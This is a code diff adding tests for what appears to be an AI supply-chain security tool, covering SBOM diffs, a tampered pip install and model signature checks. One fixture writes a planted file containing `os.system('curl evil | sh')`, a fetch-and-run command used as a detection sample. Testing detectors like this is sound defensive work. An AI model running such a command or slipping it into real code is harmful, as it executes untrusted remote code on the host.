@@ -706,3 +706,71 @@ def test_wrong_types_missing_fields_and_huge_values() -> None:
     assert "characters" in map_hub_model_info({"id": huge}, "main").reason
     assert "not UTF-8" in map_modelscan_report(b'{"issues": "\xff"}', "m").reason
     assert "nests too deeply" in map_modelscan_report(b"[" * 100_000, "m").reason
+
+
+# ---- `aisoc collect` replays of build leftovers ----------------------------------------------------------------
+
+
+def test_collect_sbom_replay_diffs_successive_builds_with_configured_approvals(cli, tmp_path: Path) -> None:
+    builds = tmp_path / "sboms"
+    builds.mkdir()
+    for number, name in enumerate(("sbom_build_1041.cdx.json", "sbom_build_1043_tampered.cdx.json")):
+        shutil.copy(FIXTURES / name, builds / f"{number:03d}-{name}")
+    config = tmp_path / "aisoc.yml"
+    config.write_text(yaml.safe_dump({"data_dir": str(tmp_path / "state"), "collectors": {"build-sboms": {
+        "type": "sbom", "path": str(builds), "options": {"approvals": {"someuser/helpful-llm@main": "CHG-7000"}}}}}))
+    out = tmp_path / "events.ndjson"
+    code, _, err = cli("collect", "build-sboms", "-c", config, "-o", out)  # type, path and options from the config
+    assert code == 0, err
+    by = {e["package.name"]: e for e in map(json.loads, out.read_text().splitlines())}
+    assert by["torch"]["aisoc.supply_chain.sbom.change"] == "hash_changed"
+    assert by["someuser/helpful-llm"]["aisoc.change.approved"] is True
+    assert fired(list(by.values()))[SBOM_HASH] == {by["torch"]["event.id"]}
+    (builds / "000-sbom_build_1041.cdx.json").unlink()
+    code, _, err = cli("collect", "sbom", "--replay", builds, "-c", config, "-o", out)
+    assert code == 0 and "a diff needs two builds' SBOMs" in err  # one SBOM: told why, dead-lettered
+
+
+def test_collect_pip_environment_replay_finds_a_tampered_install(cli, venv: dict[str, Any], tmp_path: Path) -> None:
+    build = tmp_path / "build"
+    shutil.copytree(venv["site"], build / "site-packages", symlinks=True)
+    (build / "pip-inspect.json").write_text(json.dumps(venv["inspect"]))
+    (build / "requirements.lock").write_text(f"tinypkg==1.0.0 --hash=sha256:{venv['wheel_sha']}\n")
+    (build / "site-packages" / "tinypkg" / "model_utils.py").write_text("import os\nos.system('curl evil | sh')\n")
+    config = tmp_path / "aisoc.yml"
+    config.write_text(yaml.safe_dump({"data_dir": str(tmp_path / "state"), "collectors": {"ci-env": {
+        "type": "pip_environment", "path": str(build),
+        "options": {"site_packages": "site-packages", "approvals": BOOTSTRAP, "host": "ci-7"}}}}))
+    out = tmp_path / "events.ndjson"
+    code, _, err = cli("collect", "ci-env", "-c", config, "-o", out)
+    assert code == 0, err
+    tiny = _by_name([json.loads(line) for line in out.read_text().splitlines()])["tinypkg"]
+    assert tiny["aisoc.supply_chain.record.mismatched_paths"] == ["tinypkg/model_utils.py"]
+    assert tiny["host.name"] == "ci-7" and fired([tiny]) == {HASH_MISMATCH: {tiny["event.id"]}}
+    config.write_text(yaml.safe_dump({"collectors": {"ci-env": {"type": "pip_environment", "path": str(build),
+                                                                "options": {"site_pakages": "x"}}}}))
+    code, _, err = cli("collect", "ci-env", "-c", config)
+    assert code == 2 and "collectors.ci-env.options.site_pakages" in err  # a misspelt option is named
+
+
+def test_collect_model_signatures_replay_verifies_every_model(cli, tmp_path: Path, pki: dict[str, Path]) -> None:
+    models = tmp_path / "models"
+    signed = _model(models)
+    _sign_key(signed, models / "fraud-detector.sig", pki["signer.key"])
+    tampered = models / "churn"
+    shutil.copytree(signed, tampered)
+    _sign_key(tampered, models / "churn.sig", pki["signer.key"])
+    (tampered / "model.safetensors").write_bytes(os.urandom(4096))
+    shutil.copytree(signed, models / "unsigned")
+    config = tmp_path / "aisoc.yml"
+    config.write_text(yaml.safe_dump({"data_dir": str(tmp_path / "state"), "collectors": {"registry-models": {
+        "type": "model_signatures", "path": str(models),
+        "options": {"policy": {"public_keys": {"ml-pipeline": str(pki["signer.pub"])}}}}}}))
+    out = tmp_path / "events.ndjson"
+    code, _, err = cli("collect", "registry-models", "-c", config, "-o", out)
+    assert code == 0, err
+    by = {e["aisoc.model.name"]: e for e in map(json.loads, out.read_text().splitlines())}
+    assert by["fraud-detector"]["file.code_signature.status"] == "verified"
+    assert by["churn"]["file.code_signature.status"] == "digest mismatch"
+    assert by["unsigned"]["file.code_signature.status"] == "no signature"
+    assert fired(list(by.values())) == {SIGNATURE: {by["churn"]["event.id"], by["unsigned"]["event.id"]}}
